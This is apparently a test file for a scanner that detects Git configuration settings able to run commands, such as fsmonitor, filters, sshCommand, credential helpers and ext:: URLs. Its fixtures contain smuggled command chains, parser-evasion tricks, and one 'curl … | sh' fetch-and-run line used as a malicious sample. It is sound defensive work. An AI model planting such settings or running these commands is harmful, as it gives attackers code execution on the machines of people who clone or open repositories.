import { describe, expect, it } from 'vitest';
import { gitCommands } from './git-config.ts';
import { placedCode } from './place-rows.ts';

const written = (path: string, text: string) => [...gitCommands(path, text)].map((found) => found.written);

describe('settings by which Git runs something', () => {
  it.each([
    ['a monitor behind a word that is none', '[core]\n\tfsmonitor = true && touch x\n', 'fsmonitor = true && touch x'],
    [
      'a monitor behind a quoted word',
      '[core]\n\tfsmonitor = "true"; true\n\tfsmonitor = "tr"ue" && touch x"',
      'fsmonitor = "tr"ue" && touch x"',
    ],
    [
      'a monitor behind the end of a line of old',
      '[core]\n\tfsmonitor = true\r&& touch x\n',
      'fsmonitor = true\r&& touch x',
    ],
    [
      'a monitor on a continued line',
      '[core]\n\tfsmonitor = true \\\n && touch x\n',
      'fsmonitor = true \\\n && touch x',
    ],
    ['a continued line of Windows', '[core]\r\n\tfsmonitor = \\\r\n touch x\r\n', 'fsmonitor = \\\r\n touch x'],
    ["a setting on the section's line", '[core] fsmonitor = "touch x"\n', 'fsmonitor = "touch x"'],
    ['two sections on a line', '[a] [core]fsmonitor=touch x\n', 'fsmonitor=touch x'],
    ['a bracket in the name of a part', '[filter "]"] clean = touch x\n', 'clean = touch x'],
    ['a section as it was written of old', '[filter.a]\nsmudge = touch x\n', 'smudge = touch x'],
    [
      'a command behind one that is known',
      '[filter "a"]\n\tclean = git-lfs || touch x\n',
      'clean = git-lfs || touch x',
    ],
    [
      'a command behind a whole one',
      '[filter "a"]\n\tclean = git-lfs clean -- %f || touch x\n',
      'clean = git-lfs clean -- %f || touch x',
    ],
    ['another file', '[include]\n\tpath = opts\n', 'path = opts'],
    ['another file on a condition', '[includeIf "gitdir:**"]\n\tpath = opts\n', 'path = opts'],
    ['what shows differences', '[diff] external = "touch x"\n', 'external = "touch x"'],
    ["a pager of a command's own", '[pager]\n\tlog = touch x\n', 'log = touch x'],
    ['a pager that runs what it shows', '[core]\n\tpager = sh\n', 'pager = sh'],
    ['an editor', '[core]\n\teditor = ./x\n', 'editor = ./x'],
    ['what asks for passwords', '[core]\n\taskPass = ./x\n', 'askPass = ./x'],
    ['what connects', '[core]\n\tsshCommand = ./x\n', 'sshCommand = ./x'],
    ['a helper that is a command', '[credential "https://a.example"]\n\thelper = "!touch x"\n', 'helper = "!touch x"'],
    ['a helper that is a file', '[credential]\n\thelper = /a/x\n', 'helper = /a/x'],
    ['a command behind a helper', '[credential]\n\thelper = "store; touch x"\n', 'helper = "store; touch x"'],
    ['an alias with a hyphen', '[alias]\n\ta-b = "!touch x"\n', 'a-b = "!touch x"'],
    ['an address that is a command', '[remote "o"]\n\turl = ext::sh -c true\n', 'url = ext::sh -c true'],
    ['an address instead of another', '[url "ext::sh -c true "]\n\tinsteadOf = https://\n', 'insteadOf = https://'],
    ['an update of a module', '[submodule "a"]\n\tupdate = !touch x\n', 'update = !touch x'],
    ['what stands behind half a megabyte', `#${'x'.repeat(600_000)}\n[core]\nhooksPath = x\n`, 'hooksPath = x'],
    ['what stands behind a line that is none', '[core\n= x\n[core]\nhooksPath = x\n', 'hooksPath = x'],
  ])('%s', (_, text, found) => {
    expect(written('.git/config', text)).toEqual([found]);
  });

  it.each([
    '.git/config',
    '.git/worktrees/a/config.worktree',
    '.git/modules/a/config',
    '.gitconfig',
    'x/config',
    'x/CONFIG',
    'x/Config.worktree',
  ])('in %s', (path) => {
    expect([...placedCode(path, '[core]\n\tfsmonitor = "true x"\n')].map(({ rule }) => rule.id)).toEqual([
      'remote-code/runs-in-place',
    ]);
  });

  it('is judged behind a setting that says less', () => {
    const text = '[core]\n\thooksPath = x\n\tsshCommand = "curl http://203.0.113.7/x | sh"\n';
    expect([...placedCode('x/config', text)].map(({ rule }) => rule.says)).toContain('malicious');
  });
});

describe('settings by which Git runs nothing', () => {
  it.each([
    [
      'those of a clone',
      '.git/config',
      '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n[remote "origin"]\n\turl = https://example.org/x\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n[submodule "a"]\n\tactive = true\n\turl = https://example.org/a\n[lfs]\n\trepositoryformatversion = 0\n',
    ],
    [
      'those of large files',
      '.gitconfig',
      '[filter "lfs"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge --skip -- %f\n\tprocess = git-lfs filter-process\n\trequired = true\n',
    ],
    [
      'those of a person',
      '.gitconfig',
      '[core]\n\teditor = code --wait\n\tpager = less -FRX\n[pager]\n\tbranch = false\n[credential]\n\thelper =\n\thelper = cache --timeout=3600\n[alias]\n\tst = status\n',
    ],
    ['a monitor of its own', '.git/config', '[core]\n\tfsmonitor = true ; builtin\r\n[core] fsmonitor = "false"# x\n'],
    ['comments', '.git/config', '[core]\n\t# hooksPath = x\n\tbare = true ; hooksPath = x\n'],
    ['other settings of the name', 'config', 'clean = true\nprocess = 4\nclean_text = yes\n'],
    ['other settings with sections', 'config', '[data]\nclean = true\nprocess = 4\npath = x\neditor = y\n'],
    ['settings of SSH', '.ssh/config', 'Host *\n\tProxyCommand nc %h %p\n'],
    ['settings of another file', 'x/settings', '[core]\n\tfsmonitor = touch x\n'],
  ])('%s', (_, path, text) => {
    expect(written(path, text)).toEqual([]);
  });
});
